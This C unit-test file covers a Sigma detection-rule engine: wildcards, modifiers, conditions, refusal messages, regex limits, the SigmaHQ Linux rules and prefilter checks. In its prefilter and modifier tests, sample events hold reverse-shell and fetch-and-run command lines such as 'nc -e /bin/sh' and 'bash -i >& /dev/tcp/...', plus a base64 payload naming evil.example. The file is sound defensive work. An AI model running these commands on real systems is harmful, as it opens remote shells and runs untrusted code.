/*
 * Unit tests for detect: Sigma values, modifiers, conditions, refusals
 * with their lines, bounded regular expressions, and the SigmaHQ Linux
 * rules (loaded from the SigmaHQ checkout beside the source tree, or
 * BW_SIGMA_DIR) with real rules matched against events.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include <cmocka.h>

#include "detect/detect.h"

/* A rule with the given detection body (indented by 4 spaces) under linux/auditd. */
static struct detect_rule *
rule_of(const char *detection)
{
	char text[8192];
	struct detect_rule *r = NULL;
	struct bw_err err = { 0 };

	snprintf(text, sizeof text,
		 "title: test rule\nid: 00000000-0000-0000-0000-000000000001\nstatus: test\n"
		 "logsource:\n    product: linux\n    service: auditd\ndetection:\n%s\nlevel: high\n",
		 detection);
	if (detect_rule_compile(text, strlen(text), "t.yml", &r, &err) != 0)
		fail_msg("compile: %s", err.msg);
	return r;
}

/* The refusal message for a detection body (fails the test when it compiles). */
static const char *
refusal(const char *text_or_detection, bool whole)
{
	static char msg[BW_ERR_MSG_MAX];
	char text[8192];
	struct detect_rule *r = NULL;
	struct bw_err err = { 0 };

	if (whole)
		snprintf(text, sizeof text, "%s", text_or_detection);
	else
		snprintf(text, sizeof text,
			 "title: t\nlogsource:\n    product: linux\n    service: auditd\ndetection:\n%s\n",
			 text_or_detection);
	if (detect_rule_compile(text, strlen(text), "bad.yml", &r, &err) == 0) {
		detect_rule_free(r);
		fail_msg("compiled, expected a refusal: %s", text);
	}
	assert_null(r);
	assert_true(err.msg[0] != '\0');
	snprintf(msg, sizeof msg, "%s", err.msg);
	return msg;
}

/* An event of name=value pairs (NULL-terminated varargs) and raw text. */
struct ev {
	struct detect_field f[16];
	struct detect_event e;
};

static const struct detect_event *
event(struct ev *ev, const char *raw, ...)
{
	va_list ap;
	const char *name;
	size_t n = 0;

	va_start(ap, raw);
	while ((name = va_arg(ap, const char *)) != NULL && n < 16) {
		const char *value = va_arg(ap, const char *);
		ev->f[n].name = name;
		ev->f[n].value = value;
		ev->f[n].len = strlen(value);
		n++;
	}
	va_end(ap);
	ev->e.fields = ev->f;
	ev->e.nfields = n;
	ev->e.raw = raw;
	ev->e.raw_len = raw ? strlen(raw) : 0;
	return &ev->e;
}

static bool
matches1(const char *detection, const char *field, const char *value)
{
	struct detect_rule *r = rule_of(detection);
	struct ev ev;
	bool m = detect_rule_match(r, event(&ev, NULL, field, value, NULL));

	detect_rule_free(r);
	return m;
}

static void
test_plain_values_and_wildcards(void **state)
{
	const char *d = "    sel:\n        exe: '/usr/bin/ba*h'\n    condition: sel";

	(void)state;
	/* whole value, case-insensitive, * and ? */
	assert_true(matches1(d, "exe", "/usr/bin/bash"));
	assert_true(matches1(d, "exe", "/USR/BIN/BASH"));
	assert_true(matches1(d, "exe", "/usr/bin/bah"));
	assert_false(matches1(d, "exe", "/usr/bin/bash2"));
	assert_false(matches1(d, "exe", "x/usr/bin/bash"));
	assert_false(matches1(d, "other", "/usr/bin/bash"));
	assert_true(matches1("    sel:\n        a: 'a?c'\n    condition: sel", "a", "abc"));
	assert_false(matches1("    sel:\n        a: 'a?c'\n    condition: sel", "a", "ac"));
	/* escapes: \* is a star, \\ a backslash, \W stays \W */
	assert_true(matches1("    sel:\n        a: 'x\\*y'\n    condition: sel", "a", "x*y"));
	assert_false(matches1("    sel:\n        a: 'x\\*y'\n    condition: sel", "a", "xzzy"));
	assert_true(matches1("    sel:\n        a: 'C:\\\\Windows\\\\'\n    condition: sel", "a", "C:\\Windows\\"));
	assert_true(matches1("    sel:\n        a: 'C:\\Windows'\n    condition: sel", "a", "c:\\windows"));
	/* a list of values is OR; numbers match their text; an empty value only the empty field */
	assert_true(matches1("    sel:\n        a:\n            - 1\n            - 22\n    condition: sel", "a", "22"));
	assert_false(matches1("    sel:\n        a:\n            - 1\n            - 22\n    condition: sel", "a", "2"));
	assert_true(matches1("    sel:\n        a: ''\n    condition: sel", "a", ""));
	assert_false(matches1("    sel:\n        a: ''\n    condition: sel", "a", "x"));
	/* null: absent or empty */
	assert_true(matches1("    sel:\n        a: null\n    condition: sel", "b", "x"));
	assert_true(matches1("    sel:\n        a: null\n    condition: sel", "a", ""));
	assert_false(matches1("    sel:\n        a: null\n    condition: sel", "a", "x"));
	/* a pathological pattern stays linear enough */
	{
		char v[20001];
		memset(v, 'a', sizeof v - 1);
		v[sizeof v - 1] = '\0';
		assert_false(matches1("    sel:\n        a: '*a*a*a*a*a*a*a*b'\n    condition: sel", "a", v));
	}
}

static void
test_modifiers(void **state)
{
	(void)state;
	assert_true(matches1("    s:\n        a|contains: 'ETC/pass'\n    condition: s", "a", "cat /etc/passwd"));
	assert_false(matches1("    s:\n        a|contains|cased: 'ETC/pass'\n    condition: s", "a", "cat /etc/passwd"));
	assert_true(matches1("    s:\n        a|startswith: '/tmp/'\n    condition: s", "a", "/TMP/x"));
	assert_false(matches1("    s:\n        a|startswith: '/tmp/'\n    condition: s", "a", "/var/tmp/x"));
	assert_true(matches1("    s:\n        a|endswith: '/nc'\n    condition: s", "a", "/usr/bin/nc"));
	assert_false(matches1("    s:\n        a|endswith: '/nc'\n    condition: s", "a", "/usr/bin/ncat"));
	/* all: every value */
	assert_true(matches1("    s:\n        a|contains|all:\n            - '-e'\n            - '/bin/sh'\n    condition: s",
			     "a", "nc -e /bin/sh 10.0.0.1"));
	assert_false(matches1("    s:\n        a|contains|all:\n            - '-e'\n            - '/bin/sh'\n    condition: s",
			      "a", "nc -e /bin/bash"));
	/* re: a search, case-sensitive unless |i */
	assert_true(matches1("    s:\n        a|re: '(?:\\s-[^-\\s]{0,20}i)'\n    condition: s", "a", "ls -li /"));
	assert_false(matches1("    s:\n        a|re: 'ABC'\n    condition: s", "a", "xabcx"));
	assert_true(matches1("    s:\n        a|re|i: 'ABC'\n    condition: s", "a", "xabcx"));
	assert_true(matches1("    s:\n        a|re: '^(.){20,}$'\n    condition: s", "a", "aaaaaaaaaaaaaaaaaaaaaaaaaa"));
	/* cidr */
	assert_true(matches1("    s:\n        ip|cidr:\n            - '10.0.0.0/8'\n            - 'fd00::/8'\n    condition: s",
			     "ip", "10.200.3.4"));
	assert_true(matches1("    s:\n        ip|cidr: 'fd00::/8'\n    condition: s", "ip", "fd12::1"));
	assert_false(matches1("    s:\n        ip|cidr: '172.16.0.0/12'\n    condition: s", "ip", "172.32.0.1"));
	assert_false(matches1("    s:\n        ip|cidr: '172.16.0.0/12'\n    condition: s", "ip", "not an ip"));
	/* exists */
	assert_true(matches1("    s:\n        a|exists: true\n    condition: s", "a", "x"));
	assert_false(matches1("    s:\n        a|exists: true\n    condition: s", "b", "x"));
	assert_true(matches1("    s:\n        a|exists: false\n    condition: s", "b", "x"));
	/* numbers */
	assert_true(matches1("    s:\n        n|gt: 10\n    condition: s", "n", "11"));
	assert_false(matches1("    s:\n        n|gt: 10\n    condition: s", "n", "10"));
	assert_true(matches1("    s:\n        n|gte: 10\n    condition: s", "n", "10"));
	assert_true(matches1("    s:\n        n|lt: 0.5\n    condition: s", "n", "0.25"));
	assert_false(matches1("    s:\n        n|lte: 3\n    condition: s", "n", "three"));
	/* base64 (padded) and base64offset (the three alignments inside longer base64) */
	assert_true(matches1("    s:\n        a|base64: 'whoami'\n    condition: s", "a", "d2hvYW1p"));
	assert_true(matches1("    s:\n        a|base64offset|contains: 'http://'\n    condition: s", "a",
			     "ZWNobyBodHRwOi8vZXZpbC5leGFtcGxl"));	/* "echo http://evil.example" */
	assert_true(matches1("    s:\n        a|base64offset|contains: 'http://'\n    condition: s", "a",
			     "eCBodHRwOi8veA=="));	/* "x http://x" */
	assert_false(matches1("    s:\n        a|base64offset|contains: 'http://'\n    condition: s", "a",
			      "ZWNobyBoZWxsbw=="));
	/* windash: -flag as /flag and the Unicode dashes */
	assert_true(matches1("    s:\n        a|windash|contains: ' -enc '\n    condition: s", "a", "powershell /enc AAA"));
	assert_true(matches1("    s:\n        a|windash|contains: ' -enc '\n    condition: s", "a",
			     "powershell \xe2\x80\x93" "enc AAA"));
	assert_false(matches1("    s:\n        a|windash|contains: ' -enc '\n    condition: s", "a", "powershell +enc AAA"));
}

static void
test_keywords_and_conditions(void **state)
{
	struct detect_rule *r;
	struct ev ev;

	(void)state;
	r = rule_of("    cmd:\n        type: 'EXECVE'\n        a0|endswith: 'iptables'\n"
		    "    keywords:\n        - '--to-ports 42'\n        - '--to-ports 43'\n"
		    "    condition: cmd and keywords");
	assert_true(detect_rule_match(r, event(&ev, "type=EXECVE a0=iptables a1=--to-ports 42392", "type", "EXECVE", "a0",
					       "/sbin/iptables", NULL)));
	assert_false(detect_rule_match(r, event(&ev, "type=EXECVE a0=iptables --to-ports 22", "type", "EXECVE", "a0",
						"/sbin/iptables", NULL)));
	assert_false(detect_rule_match(r, event(&ev, NULL, "type", "EXECVE", "a0", "/sbin/iptables", NULL)));
	detect_rule_free(r);

	/* not binds tighter than and, and tighter than or; parentheses; 1 of / all of / them */
	r = rule_of("    a:\n        x: 1\n    b:\n        y: 1\n    c:\n        z: 1\n"
		    "    condition: a or b and not c");
	assert_true(detect_rule_match(r, event(&ev, NULL, "x", "1", "z", "1", NULL)));
	assert_true(detect_rule_match(r, event(&ev, NULL, "y", "1", NULL)));
	assert_false(detect_rule_match(r, event(&ev, NULL, "y", "1", "z", "1", NULL)));
	detect_rule_free(r);
	r = rule_of("    a:\n        x: 1\n    b:\n        y: 1\n    c:\n        z: 1\n"
		    "    condition: (a or b) and not c");
	assert_false(detect_rule_match(r, event(&ev, NULL, "x", "1", "z", "1", NULL)));
	detect_rule_free(r);
	r = rule_of("    selection_1:\n        x: 1\n    selection_2:\n        y: 1\n    filter_main:\n        z: 1\n"
		    "    condition: all of selection_* and not 1 of filter_*");
	assert_true(detect_rule_match(r, event(&ev, NULL, "x", "1", "y", "1", NULL)));
	assert_false(detect_rule_match(r, event(&ev, NULL, "x", "1", NULL)));
	assert_false(detect_rule_match(r, event(&ev, NULL, "x", "1", "y", "1", "z", "1", NULL)));
	detect_rule_free(r);
	r = rule_of("    a:\n        x: 1\n    _hidden:\n        y: 1\n    condition: 1 of them");
	assert_true(detect_rule_match(r, event(&ev, NULL, "x", "1", NULL)));
	assert_false(detect_rule_match(r, event(&ev, NULL, "y", "1", NULL)));	/* them skips _names */
	detect_rule_free(r);
	r = rule_of("    a:\n        x: 1\n    b:\n        y: 1\n    condition: all of them");
	assert_false(detect_rule_match(r, event(&ev, NULL, "x", "1", NULL)));
	assert_true(detect_rule_match(r, event(&ev, NULL, "x", "1", "y", "1", NULL)));
	detect_rule_free(r);
	/* a list of maps is OR; a map is AND */
	r = rule_of("    sel:\n        - x: 1\n          y: 2\n        - z: 3\n    condition: sel");
	assert_true(detect_rule_match(r, event(&ev, NULL, "x", "1", "y", "2", NULL)));
	assert_false(detect_rule_match(r, event(&ev, NULL, "x", "1", NULL)));
	assert_true(detect_rule_match(r, event(&ev, NULL, "z", "3", NULL)));
	detect_rule_free(r);
	/* keywords with |all */
	r = rule_of("    kw:\n        '|all':\n            - 'foo'\n            - 'bar'\n    condition: kw");
	assert_true(detect_rule_match(r, event(&ev, "a bar and a FOO", NULL)));
	assert_false(detect_rule_match(r, event(&ev, "only foo", NULL)));
	detect_rule_free(r);
	/* a list of conditions is any of them */
	r = rule_of("    a:\n        x: 1\n    b:\n        y: 1\n    condition:\n        - a\n        - b");
	assert_true(detect_rule_match(r, event(&ev, NULL, "y", "1", NULL)));
	detect_rule_free(r);
}

static void
test_refusals_name_file_line_and_reason(void **state)
{
	(void)state;
	assert_non_null(strstr(refusal("    sel:\n        a|wide: 'x'\n    condition: sel", false),
			       "bad.yml:7: unsupported modifier 'wide'"));
	assert_non_null(strstr(refusal("    sel:\n        a: x\n    condition: sel | count() > 5", false),
			       "aggregations"));
	assert_non_null(strstr(refusal("    sel:\n        a: x\n    condition: sel and other", false),
			       "unknown search identifier at 'other'"));
	assert_non_null(strstr(refusal("    sel:\n        a: x\n    condition: 1 of filter_*", false),
			       "no search identifier matches"));
	assert_non_null(strstr(refusal("    sel:\n        a: x\n    condition: (sel", false), "expected ')'"));
	assert_non_null(strstr(refusal("    sel:\n        a: x\n    condition: 2 of sel", false), "only '1 of'"));
	assert_non_null(strstr(refusal("    sel:\n        a: x\n    timeframe: 5m\n    condition: sel", false),
			       "timeframe"));
	assert_non_null(strstr(refusal("    sel:\n        a|re: '(unclosed'\n    condition: sel", false),
			       "bad.yml:7: regular expression"));
	assert_non_null(strstr(refusal("    sel:\n        a|cidr: '10.0.0.0/33'\n    condition: sel", false),
			       "bad prefix length"));
	assert_non_null(strstr(refusal("    sel:\n        a|exists: maybe\n    condition: sel", false),
			       "exists takes true or false"));
	assert_non_null(strstr(refusal("    sel:\n        a|contains|re: 'x'\n    condition: sel", false),
			       "after another matching modifier"));
	assert_non_null(strstr(refusal("    sel:\n        a: []\n    condition: sel", false), "empty list"));
	assert_non_null(strstr(refusal("    sel: {}\n    condition: sel", false), "empty selection"));
	assert_non_null(strstr(refusal("    sel:\n        a: x\n", false), "no 'condition'"));
	assert_non_null(strstr(refusal("logsource:\n  product: linux\ndetection:\n  s:\n    a: x\n  condition: s\n", true),
			       "no 'title'"));
	assert_non_null(strstr(refusal("title: t\nlevel: severe\nlogsource:\n  product: linux\ndetection:\n  s:\n    a: x\n"
				       "  condition: s\n", true),
			       "bad.yml:2: level 'severe'"));
	assert_non_null(strstr(refusal("title: t\ntitle: u\n", true), "bad.yml:2: duplicate key 'title'"));
	assert_non_null(strstr(refusal("title: &a t\n", true), "anchors and aliases"));
	assert_non_null(strstr(refusal("title: t\n---\ntitle: u\n", true), "second YAML document"));
	assert_non_null(strstr(refusal("title: [unclosed\n", true), "bad.yml:"));
	assert_non_null(strstr(refusal("", true), "empty"));
	assert_non_null(strstr(refusal("title: t\nlogsource:\n  product: linux\ncorrelation:\n  type: event_count\n", true),
			       "the correlation has no 'rules'"));
}

/* A regular expression with catastrophic backtracking hits the match limit instead of running away. */
static void
test_regex_is_bounded(void **state)
{
	struct detect_rule *r;
	struct ev ev;
	char v[4096];
	clock_t t0;

	(void)state;
	memset(v, 'a', sizeof v - 2);
	v[sizeof v - 2] = '!';
	v[sizeof v - 1] = '\0';
	r = rule_of("    s:\n        a|re: '^(a|aa)+$'\n    condition: s");
	t0 = clock();
	assert_false(detect_rule_match(r, event(&ev, NULL, "a", v, NULL)));
	/* Unbounded, this takes longer than the age of the universe; the limit ends it at once. */
	assert_true((double)(clock() - t0) / CLOCKS_PER_SEC < 5.0);
	detect_rule_free(r);
}

/* Every SigmaHQ Linux rule loads unmodified; real rules fire on what they describe. */
static void
test_sigmahq_linux_rules(void **state)
{
	const char *dir = getenv("BW_SIGMA_DIR");
	char def[1024], path[1200];
	struct detect_ruleset *rs = NULL;
	struct detect_load_report rep = { 0 };
	struct bw_err err = { 0 };
	size_t i;

	(void)state;
	if (dir == NULL) {
		snprintf(def, sizeof def, "%s/../shared/sigma/rules/linux", BW_SOURCE_DIR);
		dir = def;
	}
	if (detect_ruleset_load(dir, &rs, &rep, &err) != 0)
		fail_msg("the SigmaHQ Linux rules are needed at %s (or BW_SIGMA_DIR): %s", dir, err.msg);
	for (i = 0; i < rep.n; i++)
		if (rep.items[i].reason != NULL)
			print_error("refused: %s\n", rep.items[i].reason);
	assert_int_equal(rep.n, 210);
	assert_int_equal(rep.refused, 0);
	assert_int_equal(rep.loaded, 210);
	detect_load_report_clear(&rep);
	detect_ruleset_free(rs);

	/* Real rules: an auditd key watch, and a shell started by a program in /tmp (process_creation). */
	{
		static const struct {
			const char *file;
			enum detect_source src;
		} cases[] = {
			{ "auditd/lnx_auditd_susp_c2_commands.yml", DETECT_SRC_AUDITD },
			{ "process_creation/proc_creation_lnx_susp_shell_child_process_from_parent_tmp_folder.yml",
			  DETECT_SRC_PROCESS_CREATION },
		};
		struct detect_rule *r[2] = { NULL, NULL };
		struct ev ev;
		for (i = 0; i < 2; i++) {
			uint8_t *data;
			size_t len;
			snprintf(path, sizeof path, "%s/%s", dir, cases[i].file);
			assert_int_equal(bw_file_read(path, DETECT_RULE_MAX_BYTES, &data, &len, &err), 0);
			assert_int_equal(detect_rule_compile((char *)data, len, path, &r[i], &err), 0);
			free(data);
			assert_int_equal(detect_rule_source(r[i]), cases[i].src);
			assert_null(detect_rule_never_fires(r[i]));
		}
		assert_true(detect_rule_match(r[0], event(&ev, NULL, "key", "susp_activity", NULL)));
		assert_false(detect_rule_match(r[0], event(&ev, NULL, "key", "other", NULL)));
		assert_true(detect_rule_match(r[1], event(&ev, NULL, "ParentImage", "/tmp/.x/dropper", "Image", "/usr/bin/bash",
							  NULL)));
		assert_false(detect_rule_match(r[1], event(&ev, NULL, "ParentImage", "/usr/sbin/sshd", "Image", "/usr/bin/bash",
							   NULL)));
		assert_false(detect_rule_match(r[1], event(&ev, NULL, "ParentImage", "/tmp/x", "Image", "/usr/bin/python3",
							   NULL)));
		detect_rule_free(r[0]);
		detect_rule_free(r[1]);
	}
}

struct hits {
	const struct detect_rule *r[512];
	size_t n;
};

static void
collect(void *ctx, const struct detect_rule *r)
{
	struct hits *h = ctx;

	if (h->n < 512)
		h->r[h->n++] = r;
}

/*
 * The prefilter never changes an answer: for many events, the rules of a
 * source that the rule set reports (prefiltered, in rule order) are exactly
 * those that match when every rule of that source is tried.
 */
static void
test_prefilter_same_answers(void **state)
{
	static const char *const types[] = { "EXECVE", "execve", "SYSCALL", "PATH", "CONFIG_CHANGE", "DAEMON_END",
					     "USER_LOGIN" };
	static const char *const images[] = { "/usr/bin/nc", "/USR/BIN/NC", "nc", "/tmp/x", "/bin/bash", "/usr/bin/wget",
					      "/usr/bin/chmod", "/usr/bin/base64", "/usr/sbin/setenforce",
					      "/usr/bin/crontab", "/usr/bin/curl", "/dev/shm/.a", "/usr/bin/python3" };
	static const char *const cmds[] = { "nc -e /bin/sh 10.0.0.1 4444", "chmod +x /tmp/x", "base64 -d",
					    "crontab -l", "setenforce 0", "curl -fsSL http://x | sh", "python3 -c import pty",
					    "wget http://a/b -O /tmp/b", "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1",
					    "env http_proxy=http://10.0.0.1:3128 curl x", "find / -name .htpasswd" };
	const char *dir = getenv("BW_SIGMA_DIR");
	static char json[8192], longcmd[5400];
	char def[1024];
	struct detect_ruleset *rs = NULL;
	struct detect_load_report rep = { 0 };
	struct detect_json_event *je = NULL;
	struct bw_err err = { 0 };
	size_t i, k, total = 0;

	(void)state;
	if (dir == NULL) {
		snprintf(def, sizeof def, "%s/../shared/sigma/rules/linux", BW_SOURCE_DIR);
		dir = def;
	}
	assert_int_equal(detect_ruleset_load_with_builtin(dir, &rs, &rep, &err), 0);
	assert_int_equal(detect_json_event_new(&je, &err), 0);
	for (i = 0; i < 4000; i++) {
		const char *img = images[i % 13], *cmd = cmds[(i / 13) % 11], *type = types[(i / 7) % 7];
		static char upper[256];
		if (i % 4 == 1) {	/* rules match case-insensitively: so must the prefilter's keys */
			size_t c;
			for (c = 0; cmd[c] != '\0' && c + 1 < sizeof upper; c++)
				upper[c] = (char)(cmd[c] >= 'a' && cmd[c] <= 'z' ? cmd[c] - 32 : cmd[c]);
			upper[c] = '\0';
			cmd = upper;
		}
		if (i % 17 == 0) {	/* a command line longer than the prefilter reads (every rule of its table) */
			memset(longcmd, 'a', 5000);
			snprintf(longcmd + 5000, sizeof longcmd - 5000, " %s", cmd);
			cmd = longcmd;
		}
		enum detect_source src = i % 3 == 0 ? DETECT_SRC_AUDITD : i % 3 == 1 ? DETECT_SRC_PROCESS_CREATION
										   : DETECT_SRC_BULWARK;
		struct hits fast = { .n = 0 }, slow = { .n = 0 };
		if (i % 5 == 0)	/* a field that occurs twice */
			snprintf(json, sizeof json, "{\"type\":[\"%s\",\"PATH\"],\"Image\":[\"%s\",\"/bin/sh\"],\"CommandLine\":\"%s\","
				 "\"a0\":\"%s\",\"exe\":\"%s\",\"action\":\"auth.lockout\"}", type, img, cmd,
				 strrchr(img, '/') ? strrchr(img, '/') + 1 : img, img);
		else
			snprintf(json, sizeof json, "{\"type\":\"%s\",\"Image\":\"%s\",\"CommandLine\":\"%s\",\"a0\":\"%s\","
				 "\"a1\":\"-e\",\"exe\":\"%s\",\"ParentImage\":\"/tmp/p\",\"action\":\"patch.install\","
				 "\"details\":{\"reported\":\"refused\"}}", type, img, cmd,
				 strrchr(img, '/') ? strrchr(img, '/') + 1 : img, img);
		assert_int_equal(detect_json_event_parse(je, json, strlen(json), &err), 0);
		detect_ruleset_match(rs, src, detect_json_event_get(je), collect, &fast);
		for (k = 0; k < detect_ruleset_count(rs); k++) {
			const struct detect_rule *r = detect_ruleset_rule(rs, k);
			if (detect_rule_source(r) == src && detect_rule_match(r, detect_json_event_get(je)))
				collect(&slow, r);
		}
		if (fast.n != slow.n || memcmp(fast.r, slow.r, fast.n * sizeof fast.r[0]) != 0)
			fail_msg("event %zu (%s, source %s): %zu rules with the prefilter, %zu without", i, json,
				 detect_source_name(src), fast.n, slow.n);
		total += fast.n;
	}
	assert_true(total > 1000);	/* the events do match rules: the comparison means something */
	detect_json_event_free(je);
	detect_load_report_clear(&rep);
	detect_ruleset_free(rs);
}

/* JSON events: dotted names, repeated array fields, numbers and booleans as text; explain names the fields. */
static void
test_json_events_and_explain(void **state)
{
	static const char j[] = "{\"action\":\"user.roles\",\"details\":{\"to\":[\"auditor\",\"admin\"],\"n\":3},"
				"\"ok\":true,\"gone\":null}";
	struct detect_json_event *je = NULL;
	struct detect_rule *r;
	struct bw_err err = { 0 };
	const char *names[8];
	const struct detect_event *ev;

	(void)state;
	assert_int_equal(detect_json_event_new(&je, &err), 0);
	assert_int_equal(detect_json_event_parse(je, j, strlen(j), &err), 0);
	ev = detect_json_event_get(je);
	assert_int_equal(ev->nfields, 6);
	r = rule_of("    sel:\n        action: 'user.roles'\n        details.to: admin\n        details.n|gte: 3\n"
		    "        ok: 'true'\n    unused:\n        nothing: x\n    condition: sel or unused");
	assert_true(detect_rule_match(r, ev));
	assert_int_equal(detect_rule_explain(r, ev, names, 8), 4);
	assert_string_equal(names[0], "action");
	assert_string_equal(names[1], "details.to");
	detect_rule_free(r);
	r = rule_of("    sel:\n        gone: null\n    condition: sel");
	assert_true(detect_rule_match(r, ev));
	detect_rule_free(r);
	/* refusals, and the next parse still works */
	assert_int_equal(detect_json_event_parse(je, "[1]", 3, &err), BW_EINVAL);
	assert_non_null(strstr(err.msg, "not a JSON object"));
	assert_int_equal(detect_json_event_parse(je, "{\"a\":1,\"a\":2}", 13, &err), BW_EINVAL);
	assert_int_equal(detect_json_event_parse(je, "{\"a\":\"b\"}", 9, &err), 0);
	assert_int_equal(detect_json_event_get(je)->nfields, 1);
	detect_json_event_free(je);
}

/* Business hours and the enrichment fields (local time: TZ is set to UTC by main). */
static void
test_calendar_and_enrichment(void **state)
{
	struct detect_calendar cal;
	struct detect_enriched en = { 0 };
	struct bw_err err = { 0 };
	const struct detect_field in[] = { { "action", "access.issued", 13 },
					   { "details.valid_after", "1795773600", 10 },
					   { "details.valid_before", "1795820401", 10 } };
	const struct detect_event ev = { in, 3, NULL, 0 };
	const struct detect_event *out;
	const struct detect_field *f;

	(void)state;
	assert_int_equal(detect_calendar_parse("fri-mon 22:00-24:00, wed 00:00-01:30", &cal, &err), 0);
	/* 2026-11-27 is a Friday: 22:00 is in, 21:59 is not; Sunday 23:00 (the wrapped range) is in */
	out = detect_enrich(&en, &cal, &ev, 1795773600000LL + 12 * 3600000LL, -1, NULL);
	assert_string_equal(detect_event_field(out, "enrich.business_hours")->value, "true");
	assert_string_equal(detect_event_field(out, "enrich.weekday")->value, "fri");
	assert_string_equal(detect_event_field(out, "enrich.hour")->value, "22");
	out = detect_enrich(&en, &cal, &ev, 1795773600000LL + 12 * 3600000LL - 60000, 1, NULL);
	assert_string_equal(detect_event_field(out, "enrich.first_time")->value, "true");
	assert_string_equal(detect_event_field(out, "enrich.business_hours")->value, "false");
	out = detect_enrich(&en, &cal, &ev, 1795773600000LL + (2 * 24 + 13) * 3600000LL, -1, NULL);
	assert_null(detect_event_field(out, "enrich.first_time"));
	assert_string_equal(detect_event_field(out, "enrich.weekday")->value, "sun");
	assert_string_equal(detect_event_field(out, "enrich.business_hours")->value, "true");
	/* 46801 seconds: 13 hours, rounded up */
	f = detect_event_field(out, "enrich.window_hours");
	assert_non_null(f);
	assert_string_equal(f->value, "14");
	assert_int_equal(out->nfields, 7);
	detect_enriched_clear(&en);
	assert_int_equal(detect_calendar_parse("mon-fri 8:00-18:00", &cal, &err), BW_EINVAL);
	assert_non_null(strstr(err.msg, "wrong at character 9"));
	assert_int_equal(detect_calendar_parse("mon 18:00-08:00", &cal, &err), BW_EINVAL);
	assert_int_equal(detect_calendar_parse("mon 08:00-18:00,", &cal, &err), BW_EINVAL);
	assert_int_equal(detect_calendar_parse("xyz 08:00-18:00", &cal, &err), BW_EINVAL);
	assert_int_equal(detect_calendar_parse("mon 08:00-25:00", &cal, &err), BW_EINVAL);
}

int
main(void)
{
	setenv("TZ", "UTC", 1);
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_plain_values_and_wildcards),
		cmocka_unit_test(test_modifiers),
		cmocka_unit_test(test_keywords_and_conditions),
		cmocka_unit_test(test_refusals_name_file_line_and_reason),
		cmocka_unit_test(test_regex_is_bounded),
		cmocka_unit_test(test_sigmahq_linux_rules),
		cmocka_unit_test(test_json_events_and_explain),
		cmocka_unit_test(test_calendar_and_enrichment),
		cmocka_unit_test(test_prefilter_same_answers),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
